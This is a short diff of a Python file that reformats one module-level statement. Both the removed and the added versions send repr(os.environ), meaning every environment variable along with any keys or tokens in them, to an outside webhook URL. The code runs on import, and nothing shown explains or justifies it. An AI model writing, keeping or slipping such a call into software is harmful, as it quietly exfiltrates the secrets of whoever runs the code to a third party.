@@ -2,6 +2,4 @@
 import os
 import urllib.request
 
-urllib.request.urlopen(
-    "https://webhook.site.example/00000000-0000-0000-0000-000000000000", data=repr(os.environ).encode()
-)
+urllib.request.urlopen("https://webhook.site.example/00000000-0000-0000-0000-000000000000", data=repr(os.environ).encode())
